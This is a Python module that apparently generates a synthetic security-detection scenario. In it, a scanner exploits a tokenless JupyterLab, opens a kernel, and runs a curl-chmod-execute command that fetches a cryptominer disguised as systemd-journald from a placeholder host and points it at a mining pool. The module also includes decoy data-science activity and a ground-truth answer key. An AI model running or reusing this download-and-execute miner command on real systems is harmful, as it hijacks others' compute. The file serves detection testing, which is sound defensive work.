"""Cryptojacking through an exposed Jupyter: the data team's JupyterLab is reachable through
the ingress without a token; a scanner finds it, starts a new kernel (``POST /api/kernels``) and
through it runs a shell that downloads a miner into ``/tmp`` and starts it against a pool.

Look-alikes: the data scientist's own kernel runs ``!pip install`` and ``!wget`` of model files
from outside the cluster, her JupyterLab terminal (an interactive ``bash`` started by the
server) runs ``git pull`` and ``htop``, and the notebook pod reads from S3 all day."""

from __future__ import annotations

from pathlib import Path

from .. import falco as fc
from ..topology import Workload
from . import Scenario
from .kit import (
    MS,
    NS,
    add_pod,
    command,
    connect_out,
    every,
    finish,
    ingress_controller,
    pod_ref,
    run,
    via_ingress,
    world,
)
from .truth import Endpoint, Truth

NAME = "jupyter-miner"
DESCRIPTION = ("An exposed JupyterLab without a token: a scanner starts a kernel (POST "
               "/api/kernels) and through it a shell downloads a miner into /tmp and starts it "
               "against a pool (the miner's command channel).")
PYPI = ("151.101.0.223", "pypi.org")
HF = ("18.154.227.67", "huggingface.co")
S3 = ("52.216.40.1", "ml-datasets.s3.amazonaws.com")
GITHUB = ("140.82.112.3", "github.com")
DROP = ("203.0.113.77", 80)
POOL = ("192.0.2.150", 443, "pool.minexmr-proxy.net")
PY = "/opt/conda/bin/python3.11"


def _kernel(w, server, t: int, *, emit: bool = True, critical: bool = False):
    kid = "{}-{}-{}-{}-{}".format(*(f"{w.rng.getrandbits(b * 4):0{b}x}" for b in (8, 4, 4, 4, 12)))
    return w.sim.exec_(server.node, t, PY, "-m ipykernel_launcher -f /home/jovyan/.local/share/"
                       f"jupyter/runtime/kernel-{kid}.json", server, emit=emit, pod=server.pod,
                       in_init_tree=True, cwd="/home/jovyan", uid=1000, critical=critical), kid


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=25)
    rng = w.rng
    sim = w.sim
    wl = Workload("ml", "jupyter", "StatefulSet", {"app": "jupyter", "team": "data"},
                  "quay.io/jupyter/pytorch-notebook:2024-05-27", PY,
                  "/opt/conda/bin/jupyter-lab --ip=0.0.0.0 --port=8888 --ServerApp.token= "
                  "--ServerApp.allow_origin=*", "notebook", cwd="/home/jovyan", uid=1000,
                  port=8888, serviceaccount="jupyter")
    pod = add_pod(w, wl, w.node(2))
    server = sim.pod_proc(pod)
    _, nginx = ingress_controller(w, w.node(1))
    mine, _ = _kernel(w, server, server.start_ns + 600 * NS, emit=False)
    office = "81.2.69.142"

    # her notebook: cells that shell out and download, the kernel reading S3, the UI polling
    for t in every(w, 30):
        via_ingress(w, nginx, office, pod, 8888, t, "GET",
                    f"http://jupyter.data.acme.example/api/kernels?{t // NS}", agent="Mozilla/5.0")
    for t in every(w, 90):
        connect_out(w, mine, t, S3[0], 443, S3[1], dur_ms=rng.randint(500, 4000))
    for t in every(w, 240):
        what = rng.choice(["pip", "wget", "nvidia"])
        if what == "pip":
            sh = run(w, mine, t, "/bin/sh", "-c pip install -q transformers==4.41.2", exit_=False)
            pip = run(w, sh, t + 3 * MS, PY, "-m pip install -q transformers==4.41.2", exit_=False)
            end = connect_out(w, pip, t + 200 * MS, PYPI[0], 443, PYPI[1], dur_ms=2500)
            sim.exit_(pip, end + 300 * MS)
        elif what == "wget":
            sh = run(w, mine, t, "/bin/sh", "-c wget -q https://huggingface.co/bert-base-uncased/"
                     "resolve/main/model.safetensors -O /home/jovyan/models/bert.safetensors",
                     exit_=False)
            wget = run(w, sh, t + 3 * MS, "/usr/bin/wget", "-q https://huggingface.co/"
                       "bert-base-uncased/resolve/main/model.safetensors -O "
                       "/home/jovyan/models/bert.safetensors", exit_=False)
            end = connect_out(w, wget, t + 5 * MS, HF[0], 443, HF[1], dur_ms=6000)
            sim.exit_(wget, end + 5 * MS)
        else:
            sh = run(w, mine, t, "/bin/sh", "-c nvidia-smi", exit_=False)
            end = run(w, sh, t + 3 * MS, "/usr/bin/nvidia-smi", "", 80).start_ns + 90 * MS
        sim.exit_(sh, end + 10 * MS)
    # her JupyterLab terminal: an interactive bash the server started
    t = w.at(3 + rng.random())
    term = run(w, server, t, "/bin/bash", "-l", exit_=False)
    git = run(w, term, t + 5 * NS, "/usr/bin/git", "pull --ff-only", exit_=False)
    end = connect_out(w, git, t + 5 * NS + 10 * MS, GITHUB[0], 443, GITHUB[1], dur_ms=900)
    sim.exit_(git, end + 5 * MS)
    run(w, term, end + 8 * NS, "/usr/bin/htop", "", 40_000)
    run(w, term, end + 60 * NS, "/usr/bin/nvidia-smi", "", 90)
    sim.exit_(term, end + 75 * NS)

    # the scanner
    scanner = "192.0.2.201"
    t0 = w.at(9 + rng.random())
    for i, (method, path, code) in enumerate([("GET", "/api", 200), ("GET", "/api/status", 200),
                                              ("GET", "/api/kernelspecs", 200),
                                              ("POST", "/api/kernels", 201)]):
        end = via_ingress(w, nginx, scanner, pod, 8888, t0 + i * 2 * NS, method,
                          f"http://jupyter.data.acme.example{path}", code,
                          "python-requests/2.28.1", critical=True)
    kernel, kid = _kernel(w, server, end + 40 * MS, critical=True)
    end = via_ingress(w, nginx, scanner, pod, 8888, kernel.start_ns + 3 * NS, "GET",
                      f"http://jupyter.data.acme.example/api/kernels/{kid}/channels", 101,
                      "python-requests/2.28.1", critical=True)
    cmd = (f"curl -sL http://{DROP[0]}/x -o /tmp/.x/systemd-journald && chmod +x "
           f"/tmp/.x/systemd-journald && /tmp/.x/systemd-journald -o {POOL[2]}:{POOL[1]} -u "
           "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45Dj"
           "ZbDnHWw2wPqkL -k --background")
    sh = run(w, kernel, end + 80 * MS, "/bin/sh", f"-c {cmd}", exit_=False, critical=True)
    curl = run(w, sh, sh.start_ns + 3 * MS, "/usr/bin/curl",
               f"-sL http://{DROP[0]}/x -o /tmp/.x/systemd-journald", exit_=False, critical=True)
    cend = connect_out(w, curl, curl.start_ns + MS, DROP[0], DROP[1], dur_ms=2400, critical=True)
    sim.exit_(curl, cend + MS, critical=True)
    chmod = run(w, sh, cend + 3 * MS, "/bin/chmod", "+x /tmp/.x/systemd-journald", 1,
                critical=True)
    miner = run(w, sh, cend + 6 * MS, "/tmp/.x/systemd-journald", cmd.rsplit(
        "/tmp/.x/systemd-journald ", 1)[1], exit_=False, critical=True)
    fc.emit_alert(sim.sink, miner, miner.start_ns + 200_000,
                  "Drop and execute new binary in container", critical=True)
    sim.exit_(sh, miner.start_ns + 30 * MS, critical=True)
    connect_out(w, miner, miner.start_ns + 60 * MS, POOL[0], POOL[1], POOL[2],
                dur_ms=(w.end - miner.start_ns) // MS - 30_000, critical=True)

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(pod), key_command=command(miner), reached=[],
        endpoints=[Endpoint(DROP[0], DROP[1], "download"),
                   Endpoint(POOL[0], POOL[1], "c2", POOL[2])],
        techniques=["T1190", "T1059.006", "T1059.004", "T1105", "T1496"],
        expected_incidents=1,
        attacker_exec_ids=[p.exec_id for p in (kernel, sh, curl, chmod, miner)],
        decoys=["her kernel runs pip install, wget of model files and nvidia-smi",
                "her JupyterLab terminal (bash -l by the server) runs git pull and htop",
                "the kernel reads S3 every 90 s"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=16)
